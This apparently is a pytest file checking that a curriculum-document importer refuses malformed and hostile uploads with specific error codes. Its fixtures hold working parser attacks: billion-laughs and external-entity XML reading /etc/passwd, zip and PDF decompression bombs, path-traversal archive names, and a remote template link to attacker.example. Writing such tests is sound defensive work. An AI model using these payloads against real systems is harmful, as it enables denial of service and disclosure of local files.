"""What no importer may stumble over: each file is refused with its own code, or read right, in 10 s and 512 MB."""

import json
import os
import time
from pathlib import Path

import pytest

from core.memory import largest_child, most_allowed
from made_files import (
    CURRICULUM_DOCX_BODY,
    HTML,
    KAZAKH,
    RUSSIAN,
    TYPES,
    deflated_zeros,
    lying_zip,
    make_docx,
    make_pdf,
    make_xlsx,
    make_zip,
    paragraph,
    sheet_rows,
)
from sauatty.core.errors import ImportRefused
from sauatty.core.exchange.reading import read_document
from sauatty.sandbox import read_in_sandbox

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
RELATIONSHIPS = "http://schemas.openxmlformats.org"


def encrypted_docx() -> bytes:
    content = bytearray(make_docx(CURRICULUM_DOCX_BODY))
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def overlapping_docx() -> bytes:
    content = bytearray(make_docx(CURRICULUM_DOCX_BODY))
    first = content.find(b"PK\x01\x02")
    second = content.find(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def two_names_docx() -> bytes:
    return make_docx(CURRICULUM_DOCX_BODY).replace(b"word/document.xml", b"word/documenu.xml", 1)


def changed_docx() -> bytes:
    stored = make_zip({"[Content_Types].xml": TYPES, "word/document.xml": "<a>one</a>"}, packed=False)
    return stored.replace(b"<a>one</a>", b"<a>two</a>")


def duplicate_docx() -> bytes:
    content = make_docx(CURRICULUM_DOCX_BODY, extra={"word/DOCUMENT.xml": "<a/>"})
    return content


FILES = {
    "empty.html": (b"", "file-empty"),
    "only-spaces.html": (b" \n\t ", "file-empty"),
    "picture.html": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "file-type-unknown"),
    "program.docx": (b"MZ\x90\x00" + b"\x00" * 100, "file-type-unknown"),
    "old-word.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "file-type-unknown"),
    "letter.rtf": (rb"{\rtf1\ansi hello}", "file-type-unknown"),
    "plain.html": (RUSSIAN.encode(), "file-type-unknown"),
    "html-as.docx": (HTML.encode(), "file-type-mismatch"),
    "docx-as.pdf": (make_docx(CURRICULUM_DOCX_BODY), "file-type-mismatch"),
    "docx-as.xlsx": (make_docx(CURRICULUM_DOCX_BODY), "file-type-mismatch"),
    "odt.docx": (make_zip({"mimetype": "application/vnd.oasis", "content.xml": "<a/>"}), "file-type-unknown"),
    "half.docx": (make_docx(CURRICULUM_DOCX_BODY)[:-200], "file-truncated"),
    "half.xlsx": (make_xlsx(sheet_rows(("text",), ("a",)))[:-300], "file-truncated"),
    "half.pdf": (make_pdf(b"BT ET" * 3000)[:9000], "file-truncated"),
    "half.json": (b'{"CFDocument": {"title": "A', "file-truncated"),
    "half.jsonl": (b'{"text": "read a map"}\n{"text": "draw a m', "file-truncated"),
    "half-letter.html": ((HTML[:-30] + "ж").encode()[:-1], "file-truncated"),
    "windows.html": ((HTML + RUSSIAN * 5).replace("ё", "е").encode("cp1251"), "encoding-ambiguous"),
    "kazakh.html": (f"<p>{KAZAKH * 5}</p>".encode("kz1048"), "encoding-ambiguous"),
    "koi.html": (f"<p>{RUSSIAN * 5}</p>".encode("koi8-r"), "encoding-ambiguous"),
    "dos.csv": (f"text,code\n{RUSSIAN * 5},1.1.1.1\n".encode("cp866", "replace"), "encoding-ambiguous"),
    "noise.html": (b"<p>" + bytes(range(128, 256)) * 20, "encoding-unknown"),
    "twice.html": (HTML.encode().decode("cp1252", "ignore").encode(), "encoding-ambiguous"),
    "flat-bomb.docx": (make_docx(paragraph("A" * 60_000_000)), "archive-suspicious"),
    "nested-bomb.docx": (
        make_zip({"a.zip": make_zip({"b.zip": make_zip({"c": b"0" * 30_000_000})})}),
        "file-type-unknown",
    ),
    "nested-bomb-inside.docx": (
        make_docx(CURRICULUM_DOCX_BODY, extra={"word/embeddings/b.zip": make_zip({"c": b"0" * 90_000_000})}),
        None,
    ),
    "lying.docx": (lying_zip(), "archive-suspicious"),
    "many-parts.docx": (
        make_docx(CURRICULUM_DOCX_BODY, extra={f"p{n}.xml": "<a/>" for n in range(2100)}),
        "archive-suspicious",
    ),
    "climbing.docx": (
        make_docx(CURRICULUM_DOCX_BODY, extra={"../../evil.xml": "<a/>"}),
        "archive-suspicious",
    ),
    "absolute.docx": (make_docx(CURRICULUM_DOCX_BODY, extra={"/etc/evil": "<a/>"}), "archive-suspicious"),
    "backslash.docx": (make_docx(CURRICULUM_DOCX_BODY, extra={"..\\evil": "<a/>"}), "archive-suspicious"),
    "duplicate.docx": (duplicate_docx(), "archive-suspicious"),
    "encrypted.docx": (encrypted_docx(), "archive-suspicious"),
    "overlapping.docx": (overlapping_docx(), "archive-suspicious"),
    "two-names.docx": (two_names_docx(), "part-damaged"),
    "changed.docx": (changed_docx(), "part-damaged"),
    "outside.docx": (make_docx(paragraph("&x;"), prologue=OUTSIDE), "doctype-forbidden"),
    "laughs.docx": (make_docx(paragraph("&d;"), prologue=LAUGHS), "doctype-forbidden"),
    "laughs-utf16.docx": (
        make_zip(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}<a>&d;</a>'.encode(
                    "utf-16"
                ),
            }
        ),
        "doctype-forbidden",
    ),
    "laughs.xlsx": (make_xlsx("", extra={"xl/styles.xml": LAUGHS + "<a>&d;</a>"}), "doctype-forbidden"),
    "macros.docx": (make_docx(CURRICULUM_DOCX_BODY, extra={"word/vbaProject.bin": b"x"}), "macros-forbidden"),
    "deep.docx": (make_docx("<w:tbl><w:tr><w:tc>" * 30_000 + paragraph("x")), "part-damaged"),
    "far-cell.xlsx": (
        make_xlsx(
            '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        "archive-suspicious",
    ),
    "no-columns.csv": ("қала,халқы\nАлматы,2\nАстана,1\n".encode(), "columns-missing"),
    "open-quote.csv": (b'text,code\n"' + b"a" * 200_000, "table-invalid"),
    "long-cell.csv": (b'text,code\n"' + b"a" * 200_000 + b'",1.1.1.1\n', "table-invalid"),
    "scan.pdf": (make_pdf(b"0 0 400 400 re f\n"), "pdf-without-text"),
    "not-a.pdf": (b"%PDF-1.4\n" + b"garbage " * 50 + b"\n%%EOF", "part-damaged"),
    "deep.json": (b"[" * 100_000 + b"]" * 100_000, "json-invalid"),
    "deep-objects.json": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "json-invalid"),
    "huge-number.json": (b'[{"text": "a", "grade": ' + b"9" * 10_000 + b"}]", "json-invalid"),
    "other.json": (b'{"swagger": "2.0", "info": {}}', "case-invalid"),
    "numbers.jsonl": (b'{"text": "a"}\n[1, 2]\n{"text": "b"}\n', "json-invalid"),
    "nothing.html": (b"<html><body><p>No table here.</p></body></html>", "nothing-found"),
}


@pytest.mark.parametrize("name", FILES)
def test_the_reader_refuses_a_bad_file_with_its_code_or_reads_it_right(name: str) -> None:
    content, code = FILES[name]
    found = None
    try:
        assert read_document(content, name=name).objectives
    except ImportRefused as refusal:
        found = refusal.code
        assert name in str(refusal)
    assert found == code


# A process for each file takes most of the time: the fast tests send those that cost a reader most.
HARDEST = {
    "flat-bomb.docx",
    "lying.docx",
    "laughs.xlsx",
    "deep.docx",
    "far-cell.xlsx",
    "not-a.pdf",
    "deep.json",
}
SANDBOXED = [name if name in HARDEST else pytest.param(name, marks=pytest.mark.slow) for name in FILES]


def test_the_hardest_files_are_among_the_bad_ones() -> None:
    assert set(FILES) > HARDEST


@pytest.mark.parametrize("name", SANDBOXED)
def test_a_bad_file_is_refused_with_its_code_or_read_right(name: str, tmp_path: Path) -> None:
    before = largest_child()
    content, code = FILES[name]
    path = tmp_path / name
    path.write_bytes(content)
    started = time.monotonic()
    found = None
    try:
        document = read_in_sandbox(path)
        assert document.objectives
    except ImportRefused as refusal:
        found = refusal.code
        assert name in str(refusal)
    assert found == code
    assert time.monotonic() - started < 10
    assert largest_child() <= most_allowed(before)
    assert [entry.name for entry in tmp_path.iterdir()] == [name]


def test_html_of_a_hundred_thousand_levels_is_refused_or_read(tmp_path: Path) -> None:
    path = tmp_path / "deep.html"
    path.write_text("<div>" * 100_000 + HTML)
    started = time.monotonic()
    with pytest.raises(ImportRefused):
        read_in_sandbox(path)
    assert time.monotonic() - started < 10


def test_a_page_that_breaks_off_is_still_read(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(HTML[: HTML.index("</td></tr>\n</tbody>")])
    codes = [objective.code for objective in read_in_sandbox(path).objectives]
    assert codes == ["7.2.1.1", "8.2.1.1"]


def test_a_file_of_200_mb_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "act.html"
    with path.open("wb") as file:
        os.truncate(file.fileno(), 200 * 2**20)
    started = time.monotonic()
    with pytest.raises(ImportRefused) as refusal:
        read_in_sandbox(path)
    assert refusal.value.code == "file-too-large"
    assert "200 MB; at most 64 MB" in str(refusal.value)
    assert time.monotonic() - started < 1


@pytest.mark.slow
def test_a_pdf_stream_that_inflates_without_end_is_refused(tmp_path: Path) -> None:
    before = largest_child()
    stream = deflated_zeros(600 * 2**20)
    page = make_pdf(b"PLACEHOLDER").replace(
        b"<< /Length 11 >>\nstream\nPLACEHOLDER",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s" % (len(stream), stream),
    )
    path = tmp_path / "bomb.pdf"
    path.write_bytes(page)
    started = time.monotonic()
    with pytest.raises(ImportRefused):
        read_in_sandbox(path)
    assert time.monotonic() - started < 10
    assert largest_child() <= most_allowed(before)


def test_names_and_texts_come_back_without_hidden_signs(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    path.write_text(json.dumps({"text": "com\u200bpare \u202esources", "code": "7.1.1.1"}) + "\n")
    assert read_in_sandbox(path).objectives[0].text == "compare sources"


def test_an_external_template_is_dropped_and_told(tmp_path: Path) -> None:
    links = (
        f'<Relationships xmlns="{RELATIONSHIPS}/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{RELATIONSHIPS}/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    path = tmp_path / "linked.docx"
    path.write_bytes(make_docx(CURRICULUM_DOCX_BODY, extra={"word/_rels/settings.xml.rels": links}))
    kinds = {oddity.kind: oddity.detail for oddity in read_in_sandbox(path).oddities}
    assert kinds["external-link"] == "http://attacker.example/t.dotm"
